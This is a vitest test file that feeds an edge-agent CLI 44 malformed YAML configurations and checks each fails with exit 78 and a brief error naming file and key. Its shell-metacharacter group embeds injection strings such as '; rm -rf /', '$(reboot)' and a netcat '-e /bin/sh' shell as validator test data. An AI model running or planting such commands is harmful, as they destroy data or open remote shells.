// Item 6 of issue 5, configurations: a matrix of bad configuration files through the real
// `edge-agent run --config FILE`. Each must end with exit 78 and one to three lines on
// stderr that name the configuration file and the key path or the cause, without a stack
// trace, before anything runs: problems found while starting (a TLS file that cannot be
// read) are blamed on the file that set the key, like those the schema finds.
import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { imagePath } from '../support/paths.js';
import { recordFigure } from './report.js';
import { cleanup, fastModel, scratchDir, startAgent } from './support.js';

let work: string;

beforeAll(() => {
  work = scratchDir('bad-configs');
});

afterAll(async () => {
  await cleanup();
});

interface CliResult {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** `edge-agent run` with these arguments; one that does not exit within 10 s is killed (code null). */
async function runAgent(args: string[]): Promise<CliResult> {
  // startAgent, not runCli: cleanup() kills what a timed-out test leaves running.
  const agent = startAgent(args);
  const timer = setTimeout(() => agent.child.kill('SIGKILL'), 10_000);
  const code = await agent.exited;
  clearTimeout(timer);
  return { code, stdout: agent.stdout, stderr: agent.stderr };
}

interface ConfigCase {
  group: string;
  name: string;
  /** YAML text, or a function that makes the file itself (binary, a directory). */
  content: string | ((file: string) => void);
  /** What stderr must also say, besides the file: the key path and the cause. */
  says: (string | RegExp)[];
}

// The model is the smallest, so that errors found after loading it come quickly.
const base = `model:\n  file: ${fastModel}\n`;
// Problems found while starting come after the set-up checks, which want a camera.
const tls = (keys: string) => `${base}camera:\n  type: sim\nmqtt:\n  url: mqtts://127.0.0.1:8883\n  tls:\n${keys}`;

const cases: ConfigCase[] = [
  { group: 'wrong types', name: 'a string for a number', content: `${base}camera:\n  fps: fast\n`, says: ['camera.fps: must be number'] },
  { group: 'wrong types', name: 'a fraction for an integer', content: `model:\n  file: ${fastModel}\n  topK: 2.5\n`, says: ['model.topK: must be integer'] },
  { group: 'wrong types', name: 'a string for a boolean', content: `${base}gpio:\n  enabled: "yes"\n`, says: ['gpio.enabled: must be boolean'] },
  { group: 'wrong types', name: 'a list for an integer', content: `${base}mqtt:\n  keepaliveSeconds: [30]\n`, says: ['mqtt.keepaliveSeconds: must be integer'] },
  { group: 'wrong types', name: 'a number for a section', content: `${base}camera: 5\n`, says: ['camera: must be object'] },
  { group: 'unknown keys', name: 'an unknown key in a section', content: `${base}camera:\n  kind: usb\n`, says: ["camera: unknown key 'kind'"] },
  { group: 'unknown keys', name: 'an unknown section', content: `${base}cameras:\n  fps: 2\n`, says: ["(top level): unknown key 'cameras'"] },
  { group: 'unknown keys', name: 'a misspelt key', content: `${base}mqtt:\n  telemetrySecs: 5\n`, says: ["mqtt: unknown key 'telemetrySecs'"] },
  { group: 'bad enum', name: 'camera type', content: `${base}camera:\n  type: webcam\n`, says: ['camera.type: must be one of "sim", "usb", "libcamera"'] },
  { group: 'bad enum', name: 'log level', content: `${base}log:\n  level: verbose\n`, says: ['log.level: must be one of'] },
  { group: 'bad enum', name: 'rotation 90', content: `${base}camera:\n  libcamera:\n    rotation: 90\n`, says: ['camera.libcamera.rotation: must be one of 0, 180'] },
  { group: 'out of range', name: 'fps 0', content: `${base}camera:\n  fps: 0\n`, says: ['camera.fps: must be > 0'] },
  { group: 'out of range', name: 'fps 100000', content: `${base}camera:\n  fps: 100000\n`, says: [/camera\.fps: must be <= \d+/] },
  { group: 'out of range', name: 'port 70000', content: `${base}metrics:\n  port: 70000\n`, says: ['metrics.port: must be <= 65535'] },
  { group: 'out of range', name: 'threads 0', content: `model:\n  file: ${fastModel}\n  threads: 0\n`, says: ['model.threads: must be >= 1'] },
  { group: 'out of range', name: 'negative maxRecords', content: `${base}outbox:\n  maxRecords: -1\n`, says: ['outbox.maxRecords: must be >= 1'] },
  { group: 'out of range', name: 'threshold 1.5', content: `model:\n  file: ${fastModel}\n  scoreThreshold: 1.5\n`, says: ['model.scoreThreshold: must be <= 1'] },
  { group: 'out of range', name: 'fps 1e400 (infinity)', content: `${base}camera:\n  fps: 1e400\n`, says: [/camera\.fps: must be <= \d+/] },
  { group: 'shell metacharacters in the camera device', name: '; rm -rf /', content: `${base}camera:\n  type: usb\n  usb:\n    device: "/dev/video0; rm -rf /"\n`, says: ['camera.usb.device: must match pattern'] },
  { group: 'shell metacharacters in the camera device', name: '$(reboot)', content: `${base}camera:\n  type: usb\n  usb:\n    device: "$(reboot)"\n`, says: ['camera.usb.device: must match pattern'] },
  { group: 'shell metacharacters in the camera device', name: 'backticks', content: `${base}camera:\n  type: usb\n  usb:\n    device: "/dev/video0\`id\`"\n`, says: ['camera.usb.device: must match pattern'] },
  { group: 'shell metacharacters in the camera device', name: 'a pipe and a newline', content: `${base}camera:\n  type: usb\n  usb:\n    device: "/dev/video0|nc -e /bin/sh x 1\\n"\n`, says: ['camera.usb.device: must match pattern'] },
  { group: 'bad URLs', name: 'http://', content: `${base}mqtt:\n  url: http://broker:1883\n`, says: ['mqtt.url: must match pattern'] },
  { group: 'bad URLs', name: 'no scheme', content: `${base}mqtt:\n  url: localhost:1883\n`, says: ['mqtt.url: must match pattern'] },
  { group: 'bad URLs', name: 'a space in the host', content: `${base}mqtt:\n  url: mqtt://exa mple.com:1883\n`, says: ['mqtt.url: "mqtt://exa mple.com:1883" is not a valid URL'] },
  { group: 'bad URLs', name: 'port 99999', content: `${base}mqtt:\n  url: mqtt://127.0.0.1:99999\n`, says: ['mqtt.url: "mqtt://127.0.0.1:99999" is not a valid URL'] },
  { group: 'bad URLs', name: 'no host', content: `${base}mqtt:\n  url: "mqtts://"\n`, says: ['mqtt.url: "mqtts://" names no host'] },
  { group: 'missing TLS files', name: 'CA file missing', content: tls('    ca: /nonexistent/ca.crt\n'), says: ['mqtt.tls.ca: cannot read /nonexistent/ca.crt: no such file'] },
  { group: 'missing TLS files', name: 'certificate and key missing', content: tls('    cert: /nonexistent/dev.crt\n    key: /nonexistent/dev.key\n'), says: [/mqtt\.tls\.(cert|key): cannot read \/nonexistent\/dev\.(crt|key): no such file/] },
  { group: 'missing TLS files', name: 'certificate without its key', content: tls(`    cert: ${imagePath('cat.png')}\n`), says: ['mqtt.tls.cert: set mqtt.tls.key too: cert and key go together (mqtt.tls.key: the default)'] },
  { group: 'rules across keys', name: 'a GPIO trigger with GPIO off', content: `${base}trigger:\n  mode: gpio\n`, says: ['trigger.mode: gpio needs gpio.enabled: true', '(gpio.enabled: the default)'] },
  { group: 'rules across keys', name: 'TLS files with a plain mqtt:// URL', content: `${base}mqtt:\n  url: mqtt://127.0.0.1:1883\n  tls:\n    ca: ${imagePath('cat.png')}\n`, says: ['mqtt.tls.ca: TLS files need an mqtts:// or wss:// broker', `(mqtt.url: set in `] },
  { group: 'YAML syntax', name: 'an unclosed list', content: `${base}camera:\n  fps: [1, 2\n`, says: [/line \d+/] },
  { group: 'YAML syntax', name: 'a tab for indentation', content: `${base}camera:\n\tfps: 2\n`, says: [/tab|indent/i] },
  { group: 'YAML syntax', name: 'a duplicate key', content: `${base}camera:\n  fps: 2\n  fps: 3\n`, says: [/unique|duplicate/i] },
  { group: 'YAML syntax', name: 'a value and a mapping on one line', content: `${base}camera: fps: 2\n`, says: [/line \d+|mapping/i] },
  { group: 'YAML syntax', name: 'a list at the top level', content: '- camera\n- mqtt\n', says: ['the top level must be a mapping of sections'] },
  { group: 'empty', name: 'an empty file', content: '', says: ['holds no settings'] },
  { group: 'empty', name: 'only comments', content: '# camera:\n#   fps: 2\n', says: ['holds no settings'] },
  { group: 'not a file', name: 'a directory', content: (file) => mkdirSync(file), says: ['is a folder'] },
  { group: 'not a file', name: 'a file that does not exist', content: () => {}, says: ['no such file'] },
  { group: 'binary', name: 'a .tflite model', content: (file) => copyFileSync(fastModel, file), says: ['not a text file'] },
  { group: 'binary', name: 'a PNG image', content: (file) => copyFileSync(imagePath('cat.png'), file), says: ['not a text file'] },
  { group: 'binary', name: 'random bytes with NULs', content: (file) => writeFileSync(file, Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 97 + 13) & 0xff))), says: ['not a text file'] },
];

// Bounded well above a run under a full `npm test` on two cores; the waits inside have their own, shorter bounds.
describe('item 6: bad configurations', { timeout: 180_000 }, () => {
  it(`exits 78 with a short message naming the file and the key for each of ${cases.length} bad configurations`, async () => {
    const results: { c: ConfigCase; file: string; r: CliResult; ms: number }[] = [];
    const run = async (c: ConfigCase, i: number): Promise<void> => {
      const file = `${work}/case-${i}.yaml`;
      if (typeof c.content === 'string') writeFileSync(file, c.content);
      else c.content(file);
      const started = Date.now();
      const r = await runAgent(['--config', file, '--data-dir', `${work}/data-${i}`]);
      results[i] = { c, file, r, ms: Date.now() - started };
    };
    // Four at a time: each is a Node start-up, most of it waiting on the disk and the loader.
    for (let i = 0; i < cases.length; i += 4) await Promise.all(cases.slice(i, i + 4).map((c, j) => run(c, i + j)));

    const failures: string[] = [];
    for (const { c, file, r } of results) {
      const label = `${c.group}: ${c.name}`;
      const lines = r.stderr.trimEnd().split('\n');
      const problems: string[] = [];
      if (r.code !== 78) problems.push(`exit ${r.code}`);
      if (lines.length > 3) problems.push(`${lines.length} lines`);
      if (/\n\s+at /.test(r.stderr)) problems.push('a stack trace');
      if (!r.stderr.includes(`${file}: `)) problems.push(`does not name ${file}`);
      for (const s of c.says) if (!(typeof s === 'string' ? r.stderr.includes(s) : s.test(r.stderr))) problems.push(`does not say ${s}`);
      if (problems.length > 0) failures.push(`${label}: ${problems.join(', ')}; stderr: ${JSON.stringify(r.stderr.slice(0, 400))}; stdout: ${JSON.stringify(r.stdout.slice(0, 200))}`);
    }
    expect(failures).toEqual([]);

    const groups = [...new Set(cases.map((c) => c.group))];
    recordFigure('6', 'bad configuration files', {
      'configurations': cases.length,
      ...Object.fromEntries(groups.map((g) => [g, results.filter((x) => x.c.group === g).map((x) => `${x.c.name}: "${x.r.stderr.trim().split('\n').at(-1)!.trim().replace(x.file, '<file>')}"`).join('; ')])),
      'exit 78 with 1-3 lines naming the file, no stack trace': `${results.length} of ${cases.length}`,
      'slowest (s)': Math.max(...results.map((x) => x.ms)) / 1000,
    }, `Each configuration file was passed to a real \`edge-agent run --config FILE\` (four processes at a time). Required: exit ` +
      '78, at most three lines on stderr, no stack trace, the configuration file named, and the key path or the cause ' +
      'stated. The figure for each group lists the last line each case printed.');
  });
});
